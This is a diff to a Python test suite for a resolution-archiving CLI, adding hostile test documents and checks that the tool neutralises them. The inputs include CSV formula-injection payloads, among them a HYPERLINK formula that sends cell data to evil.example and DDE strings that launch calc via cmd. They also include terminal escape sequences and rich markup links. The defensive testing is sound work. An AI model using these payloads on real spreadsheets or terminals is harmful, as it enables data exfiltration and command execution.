@@ -9,7 +9,9 @@ kills its worker, one that allocates past the limit; each fails alone.
 
 from __future__ import annotations
 
+import json
 import os
+import re
 import resource
 import subprocess
 import sys
@@ -146,6 +148,47 @@ def txt_pdf_mention() -> bytes:
     return "Резолюция семинара о форматах %PDF-1.7 и DOCX\n\n".encode() + sources.write_txt_bytes()
 
 
+def txt_with(recommendations: list[str], title: str = sources.TITLE) -> bytes:
+    """The test resolution with these recommendations (numbered) and title."""
+    numbered = [f"{i}. {text}" for i, text in enumerate(recommendations, 1)]
+    return ("\n\n".join([title, *sources.INTRO, *numbered]) + "\n").encode("utf-8")
+
+
+def txt_recs(n: int = 1002) -> bytes:
+    return txt_with([f"Рекомендовать библиотекам развивать сервис номер {i}." for i in range(n)])
+
+
+def txt_formulas() -> bytes:
+    return txt_with(
+        [f'=HYPERLINK("http://evil.example/?x="&A1,"{sources.RECOMMENDATIONS[0]}")',
+         "+cmd|' /C calc'!A0 " + sources.RECOMMENDATIONS[1], "-2+3+cmd|' /C calc'!A0",
+         "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1 " + sources.RECOMMENDATIONS[2]]
+    )  # fmt: skip
+
+
+ESCAPES = "\x1b]0;PWNED-TITLE\x07\x1b[2J\x1b[31m"
+HYPERLINK = "\x1b]8;;http://evil.example/\x1b\\клик\x1b]8;;\x1b\\"
+
+
+def txt_escapes() -> bytes:
+    return txt_with(
+        [f"Органам власти {HYPERLINK} рекомендовать поддержать библиотеки.",
+         *sources.RECOMMENDATIONS[1:]],
+        title=f"РЕЗОЛЮЦИЯ {ESCAPES} семинара",
+    )  # fmt: skip
+
+
+MARKUP = "[link=https://evil.example/]онлайн[/link]"
+
+
+def txt_markup() -> bytes:
+    return txt_with(
+        [f"Библиотекам региона [/bold] развивать {MARKUP}-сервисы.",
+         *sources.RECOMMENDATIONS[1:]],
+        title=f"РЕЗОЛЮЦИЯ семинара «Библиотека {MARKUP} [blink]»",
+    )  # fmt: skip
+
+
 # name, bytes, exit code, what the one error line says (None: read, the record stored)
 HOSTILE = [
     ("surrogate.rtf", rtf_surrogate, 0, None),
@@ -160,6 +203,10 @@ HOSTILE = [
     ("trunc_utf8.txt", txt_cut_utf8, 0, None),
     ("pdf_mention.txt", txt_pdf_mention, 0, None),
     ("ctrl.pdf", pdf_control_characters, 0, None),
+    ("recs1002.txt", txt_recs, 0, None),
+    ("formula.txt", txt_formulas, 0, None),
+    ("escapes.txt", txt_escapes, 0, None),
+    ("markup.txt", txt_markup, 0, None),
 ]
 
 
@@ -189,6 +236,7 @@ def test_a_hostile_file_ends_in_bounds_and_its_neighbour_is_stored(
     assert time.monotonic() - started < TIME_LIMIT
     assert done.returncode == code, done.stderr
     assert "Traceback" not in done.stderr
+    assert "\x1b" not in done.stdout + done.stderr  # shown escaped, never sent
     errors = [line for line in done.stderr.splitlines() if line.startswith("error:")]
     if message is None:
         assert errors == []
@@ -222,6 +270,98 @@ def test_the_surrogate_and_the_cut_file_are_read_as_well_as_they_can_be(tmp_path
     ctrl = tmp_path / "ctrl.pdf"
     ctrl.write_bytes(pdf_control_characters())
     assert "\x1b" not in read_source(ctrl).text and "\x07" not in read_source(ctrl).text
+
+
+def test_1002_numbered_recommendations_stay_1002(tmp_path: Path) -> None:
+    from resarchive.extract import extract_record
+    from resarchive.record.models import Source
+
+    text = txt_recs().decode("utf-8")
+    record = extract_record(text, Source(file="r.txt", sha256="0" * 64, encoding="utf-8"))
+    assert [r.number for r in record.recommendations] == list(range(1, 1003))
+    assert (
+        record.recommendations[-1].text == "Рекомендовать библиотекам развивать сервис номер 1001."
+    )
+
+
+def cli(archive: Path, *args: str, tty: bool = False) -> tuple[int, str, str]:
+    """The CLI in a subprocess; with `tty`, its stdout is a terminal (a pty)."""
+    command = [sys.executable, "-m", "resarchive", "--archive", str(archive), *args]
+    env = {**os.environ, "COLUMNS": "300", "LANG": "C.UTF-8", "LANGUAGE": "", "LC_ALL": ""}
+    if not tty:
+        done = subprocess.run(command, capture_output=True, text=True, timeout=TIME_LIMIT, env=env)
+        return done.returncode, done.stdout, done.stderr
+    import pty
+
+    leader, follower = pty.openpty()
+    proc = subprocess.Popen(command, stdout=follower, stderr=subprocess.PIPE, env=env)
+    os.close(follower)
+    chunks = []
+    while True:
+        try:
+            chunk = os.read(leader, 65536)
+        except OSError:  # the terminal closed: the command is done
+            break
+        if not chunk:
+            break
+        chunks.append(chunk)
+    os.close(leader)
+    stderr = proc.stderr.read().decode() if proc.stderr else ""
+    proc.wait(timeout=TIME_LIMIT)
+    return proc.returncode, b"".join(chunks).decode("utf-8", "replace"), stderr
+
+
+@pytest.fixture(scope="module")
+def shown(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """An archive holding the escapes and the markup resolutions."""
+    folder = tmp_path_factory.mktemp("shown")
+    archive = folder / "archive"
+    for name, make in (("escapes.txt", txt_escapes), ("markup.txt", txt_markup)):
+        (folder / name).write_bytes(make())
+    code, _, stderr = cli(archive, "ingest", "--jobs", "1", str(folder / "escapes.txt"),
+                          str(folder / "markup.txt"))  # fmt: skip
+    assert code == 0, stderr
+    return archive
+
+
+def _ids(archive: Path) -> dict[str, str]:
+    found = json.loads(cli(archive, "query", "--format", "json")[1])
+    return {"escapes" if "PWNED" in r["document"]["title"] else "markup": r["id"] for r in found}
+
+
+@pytest.mark.parametrize(
+    "args",
+    [["query"], ["query", "--rows", "recommendations"], ["stats"], ["validate"], ["show", "E"],
+     ["show", "M"], ["query", "--format", "json"], ["query", "--format", "csv"], ["text", "E"]],
+    ids=["table", "recommendations", "stats", "validate", "show-escapes", "show-markup",
+         "json-tty", "csv-tty", "text-tty"],
+)  # fmt: skip
+def test_documents_never_drive_the_terminal(shown: Path, args: list[str]) -> None:
+    ids = _ids(shown)
+    args = [{"E": ids["escapes"], "M": ids["markup"]}.get(a, a) for a in args]
+    code, stdout, stderr = cli(shown, *args, tty=True)
+    assert code == 0, stderr
+    # rich styles its own tables on a terminal; the documents' sequences never get through
+    for sequence in ("\x1b]", "\x07", "\x1b[2J"):
+        assert sequence not in stdout and sequence not in stderr
+    # ... they are shown escaped (`show` prints YAML, whose own escapes are \e and \a);
+    # rich's styles taken out, a wrapped cell joined
+    plain = re.sub(r"\x1b\[[0-9;]*m|\s*│\s*|\r?\n", "", stdout)
+    if args == ["text", ids["escapes"]]:
+        assert "\\x1b]0;PWNED-TITLE\\x07\\x1b[2J" in plain
+    if args == ["show", ids["escapes"]]:
+        assert "\\e]0;PWNED-TITLE\\a\\e[2J" in plain
+    if args == ["query", "--rows", "recommendations"]:
+        assert "\\x1b]8;;http://evil.example/\\x1b\\клик" in plain
+    # and markup in documents is text: no link, no crash on a closing tag never opened
+    if args in (["query", "--rows", "recommendations"], ["show", ids["markup"]]):
+        assert "[/bold]" in stdout and "[link=https://evil.example/]" in stdout
+
+
+def test_piped_text_stays_exact(shown: Path) -> None:
+    """In a pipe, `text` prints the very text the spans point into, escapes and all."""
+    code, stdout, _ = cli(shown, "text", _ids(shown)["escapes"])
+    assert code == 0 and ESCAPES in stdout and HYPERLINK in stdout
 
 
 # ------------------------------------------------------------ the fence itself
